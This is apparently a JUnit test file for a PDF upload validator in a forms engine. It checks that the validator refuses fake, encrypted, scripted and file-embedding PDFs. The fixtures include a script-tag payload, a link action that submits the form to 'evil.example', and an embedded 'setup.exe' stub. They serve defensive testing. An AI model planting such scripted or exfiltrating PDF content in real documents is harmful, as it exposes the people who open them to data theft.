package it.modulistica.engine.attachment;

import static org.assertj.core.api.Assertions.assertThat;

import it.modulistica.engine.definition.FileRules;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;

/** PDFs parsed by PDFBox: real ones pass, fakes, encrypted ones and those with scripts or embedded files do not. */
class PdfCheckTest {

    /** A one-page PDF made by PDFBox, changed by {@code change} before it is saved. */
    private static byte[] pdf(Consumer<PDDocument> change) throws IOException {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            change.accept(document);
            document.save(out);
            return out.toByteArray();
        }
    }

    @Test
    void acceptsAPdfWithPagesAndNothingActive() throws IOException {
        assertThat(PdfCheck.check(pdf(document -> { }))).isEmpty();
        assertThat(PdfCheck.check(FileInspectorTest.PDF)).isEmpty();
    }

    @Test
    void refusesAPdfSignatureFollowedByHtml() {
        byte[] html = "%PDF-1.7\n<html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.US_ASCII);

        assertThat(PdfCheck.check(html)).contains(PdfCheck.Refusal.NOT_A_PDF);
        assertThat(PdfCheck.check("%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII)))
                .contains(PdfCheck.Refusal.NOT_A_PDF);
    }

    @Test
    void refusesAnEncryptedPdfWithOrWithoutAnOpeningPassword() throws IOException {
        for (String userPassword : List.of("", "segreta")) {
            byte[] encrypted = pdf(document -> {
                StandardProtectionPolicy policy = new StandardProtectionPolicy("proprietario", userPassword,
                        new AccessPermission());
                try {
                    document.protect(policy);
                } catch (IOException e) {
                    throw new IllegalStateException(e);
                }
            });

            assertThat(PdfCheck.check(encrypted)).as("user password '" + userPassword + "'")
                    .contains(PdfCheck.Refusal.ENCRYPTED);
        }
    }

    @Test
    void refusesJavaScriptRunOnOpening() throws IOException {
        byte[] script = pdf(document -> document.getDocumentCatalog()
                .setOpenAction(new PDActionJavaScript("app.alert('ciao')")));

        assertThat(PdfCheck.check(script)).contains(PdfCheck.Refusal.ACTIVE_CONTENT);
    }

    @Test
    void refusesJavaScriptInALinkOfAPage() throws IOException {
        byte[] script = pdf(document -> {
            PDAnnotationLink link = new PDAnnotationLink();
            link.setAction(new PDActionJavaScript("this.submitForm('http://evil.example')"));
            try {
                document.getPage(0).getAnnotations().add(link);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        });

        assertThat(PdfCheck.check(script)).contains(PdfCheck.Refusal.ACTIVE_CONTENT);
    }

    @Test
    void refusesEmbeddedFiles() throws IOException {
        byte[] attached = pdf(document -> {
            try {
                PDEmbeddedFile file = new PDEmbeddedFile(document,
                        new ByteArrayInputStream("MZ eseguibile".getBytes(StandardCharsets.US_ASCII)));
                PDComplexFileSpecification spec = new PDComplexFileSpecification();
                spec.setFile("setup.exe");
                spec.setEmbeddedFile(file);
                PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
                tree.setNames(Map.of("setup.exe", spec));
                PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
                names.setEmbeddedFiles(tree);
                document.getDocumentCatalog().setNames(names);
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        });

        assertThat(PdfCheck.check(attached)).contains(PdfCheck.Refusal.ACTIVE_CONTENT);
    }

    @Test
    void theInspectorReportsEachRefusalWithItsCode() throws IOException {
        byte[] encrypted = pdf(document -> {
            try {
                document.protect(new StandardProtectionPolicy("proprietario", "", new AccessPermission()));
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        });
        byte[] script = pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("1")));
        FileRules pdfs = new FileRules(
                List.of("pdf"), 1_000_000, 1);

        assertThat(refusal(encrypted, pdfs)).isEqualTo("fileEncrypted");
        assertThat(refusal(script, pdfs)).isEqualTo("fileUnsafe");
        assertThat(refusal("%PDF-1.7\n<html></html>".getBytes(StandardCharsets.US_ASCII), pdfs)).isEqualTo("fileContent");
    }

    private static String refusal(byte[] content, FileRules rules) {
        try {
            FileInspector.inspect(new Upload("documento.pdf", content), rules, "/documento");
            return "accepted";
        } catch (FileRefused refused) {
            return refused.violation().code();
        }
    }
}
